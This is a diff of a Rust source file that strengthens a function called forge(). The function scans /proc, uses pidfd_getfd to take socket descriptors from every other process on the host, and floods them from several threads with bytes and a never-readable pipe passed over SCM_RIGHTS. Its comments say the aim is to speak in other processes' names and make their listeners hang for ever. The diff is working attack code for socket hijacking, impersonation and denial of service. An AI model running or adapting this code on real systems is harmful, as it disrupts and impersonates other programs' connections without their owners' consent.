@@ -142,42 +142,60 @@ fn knows(pid: &str, secret: &str) -> Option<String> {
     None
 }
 
-/// Takes the sockets of every process that comes, and speaks over them in its name, for ever.
+/// Takes the sockets of every process that comes, and speaks over them in its name, for ever: several at once,
+/// so that whoever listens to the end never comes to it.
 fn forge() -> ! {
-    use std::os::fd::{FromRawFd, OwnedFd};
+    use std::os::fd::{FromRawFd, OwnedFd, RawFd};
+    use std::sync::atomic::{AtomicI32, Ordering};
+    static TAKEN: [AtomicI32; 4] = [const { AtomicI32::new(-1) }; 4];
     println!("forging");
-    let own = std::process::id().to_string();
-    let mut taken: Vec<OwnedFd> = Vec::new();
     // Whoever reads from it waits for ever.
-    let blocking = std::io::pipe().unwrap();
+    let blocking = std::io::pipe().unwrap().0;
+    let blocking: RawFd = std::os::fd::IntoRawFd::into_raw_fd(blocking);
+    for number in 0..4 {
+        std::thread::spawn(move || {
+            loop {
+                let socket = TAKEN[number].load(Ordering::Relaxed);
+                let word: &[u8; 1] = [b"M", b"T", b"x", b"x"][number];
+                if socket < 0 || !send_with(socket, word, blocking) {
+                    std::thread::yield_now();
+                }
+            }
+        });
+    }
+    let own = std::process::id().to_string();
     loop {
         for entry in std::fs::read_dir("/proc").unwrap().flatten() {
             let pid = entry.file_name().to_string_lossy().into_owned();
             let Some(number) = pid.parse::<i32>().ok().filter(|_| pid != own) else { continue };
             // SAFETY: numbers only; what comes back is a new descriptor or none.
-            let found = unsafe {
+            unsafe {
                 let pidfd = libc::syscall(libc::SYS_pidfd_open, number, 0) as i32;
                 if pidfd < 0 {
                     continue;
                 }
                 let pidfd = OwnedFd::from_raw_fd(pidfd);
-                let get = |fd: i32| libc::syscall(libc::SYS_pidfd_getfd, pidfd.as_raw_fd(), fd, 0) as i32;
-                (3..40).map(get).filter(|fd| *fd >= 0).map(|fd| OwnedFd::from_raw_fd(fd)).collect::<Vec<_>>()
-            };
-            taken.extend(found);
-        }
-        for socket in &taken {
-            for word in [b"M", b"T", b"x"] {
-                send_with(socket.as_raw_fd(), word, blocking.0.as_raw_fd());
+                for fd in 3..64 {
+                    let got = libc::syscall(libc::SYS_pidfd_getfd, pidfd.as_raw_fd(), fd, 0) as i32;
+                    if got < 0 {
+                        continue;
+                    }
+                    let mut kind = 0;
+                    let mut size = size_of::<i32>() as libc::socklen_t;
+                    let to = (&raw mut kind).cast();
+                    if libc::getsockopt(got, libc::SOL_SOCKET, libc::SO_TYPE, to, &raw mut size) == 0 {
+                        TAKEN.iter().for_each(|taken| taken.store(got, Ordering::Relaxed));
+                    } else {
+                        libc::close(got);
+                    }
+                }
             }
         }
-        let length = taken.len();
-        taken.drain(..length.saturating_sub(64));
     }
 }
 
-/// Sends a byte and a descriptor, if that is a socket that takes them.
-fn send_with(socket: i32, word: &[u8; 1], fd: i32) {
+/// Sends a byte and a descriptor; false: nobody takes them.
+fn send_with(socket: i32, word: &[u8; 1], fd: i32) -> bool {
     // SAFETY: all buffers live on this stack during the call, and have the sizes that are said.
     unsafe {
         let mut control = [0u64; 4];
@@ -191,6 +209,6 @@ fn send_with(socket: i32, word: &[u8; 1], fd: i32) {
         (*header).cmsg_type = libc::SCM_RIGHTS;
         (*header).cmsg_len = libc::CMSG_LEN(4) as _;
         libc::CMSG_DATA(header).cast::<i32>().write_unaligned(fd);
-        libc::sendmsg(socket, &raw const message, libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL);
+        libc::sendmsg(socket, &raw const message, libc::MSG_NOSIGNAL) > 0
     }
 }
